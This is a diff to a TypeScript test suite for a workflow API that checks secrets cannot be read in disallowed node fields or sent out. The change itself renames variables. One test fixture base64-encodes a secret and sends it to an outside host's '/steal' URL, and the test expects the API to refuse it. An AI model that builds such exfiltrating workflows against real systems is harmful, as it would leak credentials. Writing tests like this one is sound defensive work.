@@ -77,9 +77,9 @@ async function run(...nodes: Node[]) {
   expect(saved.status, saved.text).toBe(201);
   const { id, issues } = saved.body as { id: string; issues: unknown[] };
   expect(issues).toEqual([]);
-  const answer = await api('POST', `/workflows/${id}/execute`, { body: { wait: '30s' } });
-  expect(answer.status, answer.text).toBe(201);
-  return answer.body as { status: string; error: { type: string; message: string } | null };
+  const reply = await api('POST', `/workflows/${id}/execute`, { body: { wait: '30s' } });
+  expect(reply.status, reply.text).toBe(201);
+  return reply.body as { status: string; error: { type: string; message: string } | null };
 }
 
 const refused = (host: string) => ({
@@ -144,11 +144,11 @@ describe('fields that may read a secret', () => {
     const draft = await save([{ id: 'node', type, config }]);
     expect(draft.status, draft.text).toBe(201);
     const { id, issues } = draft.body as { id: string; issues: { field: string; issue: string }[] };
-    const place =
+    const location =
       field === 'fields' ? 'fields.a' : field === 'input' ? 'input.a' : field === 'output' ? 'value' : field;
     expect(issues).toContainEqual({
       node_id: 'node',
-      field: `config.${place}`,
+      field: `config.${location}`,
       issue: expect.stringContaining(
         allowed === ''
           ? `must not read a secret; no field of ${type} may`
@@ -158,7 +158,7 @@ describe('fields that may read a secret', () => {
     expect((await api('POST', `/workflows/${id}/execute`, { body: {} })).status).toBe(400);
     const active = await save([{ id: 'node', type, config }], 'active');
     expect(active.status).toBe(400);
-    expect(active.text).toContain(`definition.nodes[1].config.${place}`);
+    expect(active.text).toContain(`definition.nodes[1].config.${location}`);
   });
 
   test('are in the catalogue', async () => {
@@ -260,9 +260,9 @@ describe('a secret with hosts', () => {
   test('does not leave through the result of another node', async () => {
     const encode = { operation: 'encode', encoding: 'base64', value: '{{ secrets.BOUND }}' };
     const steal = http({ url: `${away.url}/steal?{{ nodes.c }}` });
-    const answer = await save([{ id: 'c', type: 'crypto', config: encode }, steal], 'active');
-    expect(answer.status).toBe(400);
-    expect(answer.text).toContain('crypto reads secrets only in key');
+    const reply = await save([{ id: 'c', type: 'crypto', config: encode }, steal], 'active');
+    expect(reply.status).toBe(400);
+    expect(reply.text).toContain('crypto reads secrets only in key');
   });
 
   test('is accepted as a whole key of crypto, and refused in parts', async () => {
